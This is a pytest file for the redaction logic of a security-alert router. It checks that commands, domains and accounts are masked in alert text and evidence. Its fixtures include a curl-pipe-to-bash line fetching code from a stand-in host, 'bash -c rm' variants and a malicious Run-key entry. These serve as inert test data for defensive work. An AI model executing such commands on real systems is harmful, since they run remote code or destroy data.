"""What is withheld by an item of the evidence is what the item names, without the words that stand around it there."""

from __future__ import annotations

from typing import Any

import pytest

from router.destinations.wording.changes import changes_between
from router.destinations.wording.withholding import WITHHELD, names_in, values_in, withheld_from
from router.domain.entities import Entities
from router.domain.evidence import Evidence
from router.parse.entity_facts import facts_of
from tests.destinations.builders import a_notice

COMMAND = "curl -s http://pool.example.net/x | bash"

ENTITIES: list[dict[str, Any]] = [
    {"Type": "process", "CommandLine": COMMAND, "ProcessId": "0x5d1"},
    {
        "Type": "process", "CommandLine": "-c a: b", "ProcessId": "7", "Account": {"Type": "account", "Name": "ada"},
        "ImageFile": {"Type": "file", "Directory": "C:\\Program Files", "Name": "x.exe"},
        "ParentProcess": {"Type": "process", "ImageFile": {"Type": "file", "Name": "cmd.exe"}},
    },
    {"Type": "process", "ProcessId": "1489", "ImageFile": {"Type": "file", "Directory": "/usr/bin", "Name": "curl"}},
    {"Type": "dns", "DomainName": "pool.example.net", "IpAddresses": ["198.51.100.23", "198.51.100.24"]},
    {"Type": "account", "Name": "ada", "NTDomain": "CORP"},
    {"Type": "account", "Name": "ada", "UPNSuffix": "corp.example"},
    {"Type": "host", "HostName": "web-1", "DnsDomain": "corp.example"},
    {"Type": "filehash", "Algorithm": "SHA256", "Value": "ab" * 32},
    {"Type": "malware", "Name": "Coinminer", "Category": "Trojan"},
    {"Type": "file", "Directory": "C:\\Users", "Name": "x.exe"},
    {"Type": "registry-key", "Hive": "LocalMachine", "Key": "Software\\Run"},
    {"Type": "registry-value", "Key": {"Type": "registry-key", "Key": "Run"}, "Name": "evil", "Value": "C:\\evil.exe"},
    {"Type": "cloud-logon-session", "SessionId": "s-1234", "Application": "Portal", "UserAgent": "curl/8"},
    {"Type": "cloud-application", "Name": "mail app", "InstanceName": "two", "AppId": "1234"},
    {"Type": "iotdevice", "DeviceName": "pump", "DeviceId": "d-1", "Model": "P1"},
    {"Type": "mailbox", "MailboxPrimaryAddress": "ada@x.example", "DisplayName": "Ada L"},
    {"Type": "blob", "Name": "pay.zip", "Url": "https://x.example/c/pay.zip"},
    {"Type": "ip", "Address": "198.51.100.7", "Location": {"City": "Berlin", "CountryName": "Germany", "Asn": 3320}},
    {"Type": "url", "Url": "https://x", "ThreatIntelligence": {"ThreatName": "Botnet", "ReportLink": "https://r/1"}},
    {"Type": "mail-message", "P2Sender": "a@x.example", "Recipient": "b@x.example", "Subject": "Invoice: 7"},
    {"Type": "new-thing", "Name": "thing-1"},
]  # fmt: skip


@pytest.mark.parametrize("entity", ENTITIES, ids=lambda entity: entity["Type"])
def test_every_name_that_an_entity_has_in_the_evidence_is_known_there(entity: dict[str, Any]) -> None:
    """What the parser says that a thing is called is among the values of its item, but for process ids."""
    facts = list(facts_of(next(iter(Entities([entity])))))
    assert facts
    for fact in facts:
        values = values_in(fact.listed, fact.words)
        numbers = {entity.get("ProcessId"), f"({entity.get('ProcessId')})"}
        assert set(fact.names) - numbers <= set(values), fact


ANNOTATED = [f"{COMMAND}{behind}" for behind in (
    "", " (0x5d1)", " (1489)", " (0x5d1), by CORP\\ada", ", by ada", ", child of sshd -D", " (0x5d1), child of sshd -D (77)",
    " (0x5d1), by ada, child of sh -c a, b (1)",
)]  # fmt: skip


@pytest.mark.parametrize("item", ANNOTATED)
def test_a_process_is_withheld_by_its_bare_command(item: str) -> None:
    """The whole command goes from every text, however its item is annotated."""
    assert COMMAND in names_in("processes", item)
    notice = a_notice(
        title=f"Ran {COMMAND.upper()}",
        description=f"Someone ran '{COMMAND}' there.",
        remediation=(f"Stop {COMMAND.replace(' ', '  ')}",),
        evidence=Evidence(processes=(item,), commands=(COMMAND, "ls")),
        extended={"Command": COMMAND, "JSON": f'{{"a": "{COMMAND}"}}'},
        unlisted=("Command", "JSON"),
    )
    told = withheld_from(notice, {"processes"})
    assert (told.title, told.description) == (f"Ran {WITHHELD}", f"Someone ran '{WITHHELD}' there.")
    assert told.remediation == (f"Stop {WITHHELD}",)
    assert told.evidence == Evidence(commands=("ls",))
    assert told.extended == {"JSON": f'{{"a": "{WITHHELD}"}}'}


def test_a_process_is_withheld_by_its_command_behind_its_image() -> None:
    """The image stands before a command line that does not name it; both are the process."""
    item = "C:\\Program Files\\x.exe: run: all (7), by SHOP\\ada, child of cmd.exe"
    assert {"run: all", "C:\\Program Files\\x.exe", "x.exe"} <= set(names_in("processes", item))
    assert names_in("processes", "echo a: b (7)") == ("echo a: b (7)", "echo a: b")
    assert {"Wuhan", "China", "AS4837"} <= set(values_in("locations", "192.0.2.1: Wuhan, China (AS4837, x)"))


def test_the_data_of_a_registry_value_are_one_value_whatever_is_in_them() -> None:
    """They begin behind the first sign of equality, and so does what a connection leads to behind its first arrow."""
    assert {"C:\\a.exe --pin = 123", "x"} <= set(values_in("registry_values", "HKLM\\Run\\x = C:\\a.exe --pin = 123"))
    assert {"b -> c TCP", "b"} <= set(values_in("connections", "a -> b -> c TCP"))


def test_the_parent_of_a_process_that_is_withheld_is_so_too() -> None:
    """It is a process, whatever list tells of it."""
    told = withheld_from(
        a_notice(description="sshd -D did", evidence=Evidence(processes=("ls (1), child of sshd -D (77)",))),
        {"processes"},
    )
    assert told.description == f"{WITHHELD} did"


def test_a_domain_is_withheld_without_its_addresses() -> None:
    """Neither description nor processes have it; the addresses are another list's."""
    notice = a_notice(
        description="It reached Pool.example.net at 198.51.100.23.",
        evidence=Evidence(
            domains=("pool.example.net (198.51.100.23)",), processes=(f"{COMMAND} (0x5d1)",), ips=("198.51.100.23",)
        ),
    )
    told = withheld_from(notice, {"domains"})
    assert told.description == f"It reached {WITHHELD} at 198.51.100.23."
    assert told.evidence == Evidence(processes=(f"curl -s http://{WITHHELD}/x | bash (0x5d1)",), ips=("198.51.100.23",))


def test_a_short_value_goes_from_the_words_that_items_have_of_ours() -> None:
    """Three characters are not looked for in texts, yet in what we put behind an item they are a value of their own."""
    notice = a_notice(
        description="adapt it",
        evidence=Evidence(accounts=("CORP\\ada", "bob"), processes=("ls (1), by ada, child of sh", "nada, x")),
    )
    told = withheld_from(notice, {"accounts"})
    assert told.evidence == Evidence(processes=(f"ls (1), by {WITHHELD}, child of sh", "nada, x"))
    assert told.description == "adapt it"
    by_property = withheld_from(a_notice(extended={"who": "ada"}, evidence=notice.evidence), {"who"})
    assert by_property.evidence.accounts == ("bob",)


@pytest.mark.parametrize("listed", ["accounts", "ips"])
def test_an_item_that_only_mentions_a_value_stays(listed: str) -> None:
    """A mail is not its sender, and a domain not its address."""
    notice = a_notice(
        evidence=Evidence(
            accounts=("ann@x.example",), ips=("198.51.100.7",), domains=("y.example (198.51.100.7)",),
            emails=("ann@x.example -> bob@x.example: Hi",),
        )
    )  # fmt: skip
    told = withheld_from(notice, {listed}).evidence
    assert told.emails == ((f"{WITHHELD} -> bob@x.example: Hi") if listed == "accounts" else notice.evidence.emails[0],)
    assert told.domains == (f"y.example ({WITHHELD})" if listed == "ips" else notice.evidence.domains[0],)


@pytest.mark.parametrize("cut", [299, 250, 4000])
def test_a_long_value_is_known_where_a_text_cuts_it(cut: int) -> None:
    """A placeholder takes 300 characters, and an item 4,000."""
    command = "start " + " ".join(f"arg{number}" for number in range(1000)) + " end"
    quoted = f"Ran {command[:cut]}…" if cut < 4000 else f"Ran {command}"
    item = command if cut < 4000 else f"{command[:3990]}… [cut]"
    told = withheld_from(a_notice(description=quoted, evidence=Evidence(commands=(item,))), {"commands"})
    assert told.description == f"Ran {WITHHELD}"


@pytest.mark.parametrize(
    "quoted", ['bash -c \\"rm /x\\"', "bash -c &quot;rm /x&quot;", "bash%20-c%20%22rm%20%2Fx%22", 'bash\n-c  "rm /x"']
)
def test_a_value_is_known_in_json_in_html_and_in_an_address(quoted: str) -> None:
    """A property may be JSON that has the command as one text of many."""
    notice = a_notice(description=f"a {quoted} b", evidence=Evidence(commands=('bash -c "rm /x"',)))
    assert withheld_from(notice, {"commands"}).description == f"a {WITHHELD} b"


@pytest.mark.parametrize("value", ["alice, bobby", '["alice", "bobby"]', "alice;bobby"])
def test_each_name_of_a_list_that_a_property_holds_is_withheld(value: str) -> None:
    """In texts as in lists; a sentence with a comma is no list."""
    notice = a_notice(description="alice, then Bobby", extended={"Users": value})
    assert withheld_from(notice, {"users"}).description == f"{WITHHELD}, then {WITHHELD}"
    sentence = a_notice(description="the user left", extended={"p": "the user, an admin, left"})
    assert withheld_from(sentence, {"p"}).description == "the user left"


def test_a_mark_is_never_looked_at_again() -> None:
    """A value that stands in the mark itself spoils nothing."""
    notice = a_notice(description="it was canary", extended={"p": "canary", "q": "held"})
    assert withheld_from(notice, {"p", "q"}).description == f"it was {WITHHELD}"


def test_a_property_that_says_what_is_withheld_is_named_nowhere() -> None:
    """Neither in the evidence nor among what changed."""
    notice = a_notice(extended={"p": "canary", "q": "canary"}, unlisted=("p", "q"))
    told = withheld_from(notice, {"p"})
    assert (told.extended, told.unlisted) == ({}, ())
    assert changes_between(told, told) == ()
